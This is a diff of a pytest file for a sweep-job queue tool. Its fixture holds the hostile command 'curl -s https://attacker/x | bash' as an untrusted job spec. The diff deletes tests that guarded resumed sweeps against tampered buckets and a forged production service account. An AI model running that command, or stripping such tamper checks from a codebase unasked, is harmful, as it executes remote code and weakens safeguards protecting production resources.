@@ -12,7 +12,7 @@ import pytest
 from localcloud.testing import Client
 from tests.unit.localcloud.fake_machines import FakeMachines
 from tests.unit.tpustack.conftest import Done, Run
-from tests.unit.tpustack.jobs.conftest import API, BUCKET, EMAIL, JOBS, PROJECT
+from tests.unit.tpustack.jobs.conftest import API, EMAIL, JOBS, PROJECT
 from tpu_agent.jobs.queue import Job, Queue, Spec
 from tpu_core.bucket import Bucket
 from tpu_core.records import stamped
@@ -145,44 +145,16 @@ SWEEP = Sweep(
     spec=Spec("curl -s https://attacker/x | bash"),
     metric="loss",
     goal="minimize",
-    pruner="none",
     wanted=1,
     parallel=1,
     seed=0,
-    buckets=("prod-bucket",),
 )
-TRIAL = {"number": 0, "bucket": BUCKET, "job": "s-000", "params": {"rate": 0.5}}
+TRIAL = {"number": 0, "job": "s-000", "params": {"rate": 0.5}}
 
 
 def write(queue: Queue, **changed: object) -> None:
-    content = {**stamped(asdict(SWEEP)), "buckets": [BUCKET], **changed}
+    content = {**stamped(asdict(SWEEP)), **changed}
     queue.store.write("sweeps/s.json", json.dumps(content).encode())
-
-
-def test_a_sweep_runs_in_the_buckets_that_the_person_names(job: Run, queue: Queue) -> None:
-    pytest.importorskip("optuna")
-    write(queue, buckets=["prod-bucket"])
-    done = job("sweep", "--resume", "s")
-    assert done.code == 2
-    assert "--resume: name the stacks or buckets of gs://prod-bucket again" in done.err
-    assert queue.summaries() == {}
-
-
-def test_a_sweep_on_vertex_ai_runs_as_the_stack_says(
-    run: Run, job: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object,
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:  # fmt: skip
-    pytest.importorskip("optuna")
-    from tpustack.jobs.sweep import Driver
-
-    image = "python:3.11"
-    forged = {**PLACE, "image": image, "account": "mighty@prod.iam.gserviceaccount.com"}
-    write(queue, places={BUCKET: forged})
-    assert "name the stacks (--stack) of" in job("sweep", "--resume", "s").err
-    begun: list[Driver] = []
-    monkeypatch.setattr(Driver, "run", lambda self: begun.append(self))
-    run("job", "sweep", "--resume", "s", "--stack", "dev", "--image", image)
-    assert begun[0].sweep.places[BUCKET]["account"] == EMAIL
 
 
 @pytest.mark.parametrize(
@@ -193,9 +165,7 @@ def test_a_sweep_on_vertex_ai_runs_as_the_stack_says(
         {"params": ["rate=nothing"]},
         {"params": "rate"},
         {"spec": []},
-        {"buckets": []},
         {"trials": [{**TRIAL, "job": "other-job"}]},
-        {"trials": [{**TRIAL, "bucket": "prod-bucket"}]},
         {"trials": [{**TRIAL, "params": {}}]},
         {"trials": [{**TRIAL, "params": {"rate": "[/x]"}}]},
         {"trials": [{**TRIAL, "value": float("nan")}]},
